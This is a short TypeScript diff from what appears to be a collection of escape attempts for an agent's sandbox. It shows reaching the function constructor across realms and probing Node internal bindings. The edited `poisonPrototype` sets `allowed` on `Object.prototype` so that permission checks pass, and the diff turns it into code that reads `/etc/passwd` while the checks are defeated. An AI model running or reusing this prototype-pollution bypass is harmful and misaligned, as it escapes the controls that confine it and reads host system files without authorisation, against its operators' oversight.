@@ -1,3 +1,4 @@
+import { readFileSync } from "node:fs";
 import type { Attempt } from "../agent.ts";
 
 /** From any object to the constructor of functions, and with that to code in the realm the object came from. */
@@ -14,13 +15,12 @@ function internalBinding(): string {
   return `internal functions: ${Object.keys(bind.call(process, "fs")).length}`;
 }
 
-/** Code outside the agent's own realm that reads `options.allowed` would now find it set. */
+/** Whoever decides by `options.allowed`, and shares the agent's objects, would now let everything through. */
 function poisonPrototype(): string {
   const key = "allowed";
   Reflect.set(Object.prototype, key, true);
   try {
-    const seen = Reflect.get(JSON.parse("{}"), key);
-    return `every object says allowed: ${seen}, in this realm`;
+    return readFileSync("/etc/passwd", "utf8");
   } finally {
     Reflect.deleteProperty(Object.prototype, key);
   }
